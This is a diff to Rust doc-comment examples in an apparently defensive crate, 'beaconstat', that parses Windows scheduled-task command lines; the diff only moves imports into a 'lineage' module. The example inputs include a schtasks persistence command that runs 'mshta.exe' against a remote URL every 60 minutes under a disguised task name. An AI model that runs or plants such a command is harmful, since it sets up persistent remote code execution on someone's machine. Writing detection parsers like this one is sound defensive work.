@@ -10,7 +10,7 @@ use crate::time::Interval;
 ///
 /// # Example
 /// ```
-/// use beaconstat::split_command_line;
+/// use beaconstat::lineage::split_command_line;
 /// assert_eq!(split_command_line(r#"schtasks /tr "mshta.exe https://x/y" /f"#),
 ///            ["schtasks", "/tr", "mshta.exe https://x/y", "/f"]);
 /// ```
@@ -78,7 +78,8 @@ pub enum SchtasksVerb {
 ///
 /// # Example
 /// ```
-/// use beaconstat::{Interval, SchtasksCommand, SchtasksVerb};
+/// use beaconstat::Interval;
+/// use beaconstat::lineage::{SchtasksCommand, SchtasksVerb};
 /// let c = SchtasksCommand::parse(
 ///     r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://h/i.txt" /F"#,
 /// ).unwrap();
@@ -126,7 +127,7 @@ impl SchtasksCommand {
     ///
     /// # Example
     /// ```
-    /// use beaconstat::SchtasksCommand;
+    /// use beaconstat::lineage::SchtasksCommand;
     /// let line = format!("at 13:20 cmd /c{}", " x".repeat(100_000));
     /// let c = SchtasksCommand::parse(&line).unwrap();
     /// assert!(c.at && c.truncated);
